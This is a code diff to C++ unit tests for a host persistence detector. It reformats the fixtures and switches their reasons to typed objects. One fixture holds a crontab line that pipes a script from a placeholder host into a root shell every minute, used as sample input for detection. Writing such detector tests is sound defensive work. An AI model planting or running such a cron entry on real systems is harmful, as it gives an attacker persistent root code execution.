@@ -11,12 +11,13 @@ using hostscan::PersistenceHit;
 using testing::HostEngine;
 
 PersistenceHit CronDownload() {
-  return {.file = "/etc/crontab",
-          .line = 3,
-          .text = "* * * * * root curl -s http://x.example/m.sh | sh",
-          .kind = "cron",
-          .reasons = {"downloads and runs code"},
-          .attack = "T1053.003"};
+  return {
+      .file = "/etc/crontab",
+      .line = 3,
+      .text = "* * * * * root curl -s http://x.example/m.sh | sh",
+      .kind = "cron",
+      .reasons = {{hostscan::AutostartReason::Kind::kDownloadsAndRuns, "downloads and runs code"}},
+      .attack = "T1053.003"};
 }
 
 TEST(PersistenceDetector, DownloadAndRunIsAHighAutostartFinding) {
@@ -37,11 +38,13 @@ TEST(PersistenceDetector, DownloadAndRunIsAHighAutostartFinding) {
 
 TEST(PersistenceDetector, ReplacedSystemBinaryIsItsPathAndMedium) {
   HostEngine engine;
-  PersistenceHit h{.file = "/usr/bin/top",
-                   .line = 0,
-                   .kind = std::string(hostscan::kSystemBinaryKind),
-                   .reasons = {"system binary differs from the file its Debian package installed"},
-                   .attack = "T1036.005"};
+  PersistenceHit h{
+      .file = "/usr/bin/top",
+      .line = 0,
+      .kind = std::string(hostscan::kSystemBinaryKind),
+      .reasons = {{hostscan::AutostartReason::Kind::kReplacedBinary,
+                   "system binary differs from the file its Debian package installed"}},
+      .attack = "T1036.005"};
   engine.bus().Publish(hostscan::ReplacedBinaryEvent{HostEngine::kHost, "/", h});
   const Finding* f = engine.Find(category::kMinerAutostart);
   ASSERT_NE(f, nullptr);
